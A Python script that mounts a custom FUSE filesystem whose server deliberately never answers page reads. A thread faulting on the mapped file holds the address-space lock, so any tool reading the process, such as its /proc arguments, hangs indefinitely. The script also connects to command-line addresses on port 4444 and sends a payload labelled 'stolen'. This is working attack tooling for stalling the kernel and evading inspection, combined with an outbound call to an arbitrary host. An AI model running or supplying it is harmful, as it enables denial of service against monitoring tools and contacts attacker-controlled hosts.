"""Makes itself a process whose arguments nobody can read: whoever tries waits for as long as it likes.

A page of a file system of its own is not answered for, the thread that wants it waits with the lock of the address space, and
the next that wants to change the space keeps all who would read in it waiting. Run as root, who may mount; an ordinary user
has fusermount(1). Prints the pid of the file system's server, and goes on at the end of a line. Arguments: address to connect to.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import threading
import time
from pathlib import Path

# include/uapi/linux/fuse.h
GETATTR, RELEASE, FORGET, OPEN, READ, INIT, INTERRUPT = 3, 18, 2, 14, 15, 26, 36
_SIZE = 4096


def serve(channel: int) -> None:
    """The file system, one file: the first two reads fail, so that the kernel tries again with the lock; then silence."""
    reads = 0
    while True:
        _size, code, number = struct.unpack_from("=IIQ", os.read(channel, 1 << 17))
        reads += code == READ
        if code in (FORGET, INTERRUPT) or (code == READ and reads > 2):
            continue
        attributes = struct.pack("=6Q10I", 1, _SIZE, 8, 0, 0, 0, 0, 0, 0, 0o100644, 1, 0, 0, 0, _SIZE, 0)
        body = {
            INIT: struct.pack("=IIIIHHIIHHI28x", 7, 31, _SIZE, 0, 1, 1, _SIZE, 1, 0, 0, 0),
            GETATTR: struct.pack("=QII", 1, 0, 0) + attributes,
            OPEN: struct.pack("=QII", 1, 0, 0),
        }.get(code, b"")
        os.write(channel, struct.pack("=IiQ", 16 + len(body), -5 if code == READ else 0, number) + body)


def main() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    path = f"/tmp/hanging-{os.getpid()}"
    Path(path).touch()
    channel = os.open("/dev/fuse", os.O_RDWR)
    if libc.mount(b"fuse", path.encode(), b"fuse", 0, f"fd={channel},rootmode=100000,user_id=0,group_id=0".encode()):
        raise OSError(ctypes.get_errno(), "mount")
    server = os.fork()
    if server == 0:
        serve(channel)
    os.close(channel)  # so that all of it can end when the server does
    assert os.stat(path).st_size == _SIZE
    address = libc.mmap(None, ctypes.c_size_t(_SIZE), 1, 2, os.open(path, os.O_RDONLY), 0)
    connections = [socket.create_connection((one, 4444)) for one in sys.argv[1:]]
    for one in connections:
        one.sendall(b"\0stolen")
    target = ctypes.create_string_buffer(16)
    touch = threading.Thread(target=lambda: libc.memcpy(target, ctypes.c_void_p(address), ctypes.c_size_t(1)), daemon=True)
    touch.start()
    while "request_wait" not in Path(f"/proc/self/task/{touch.native_id}/wchan").read_text():
        time.sleep(0.01)
    print(server, flush=True)
    sys.stdin.readline()
    threading.Thread(target=print).start()  # wants a stack
    del connections


main()
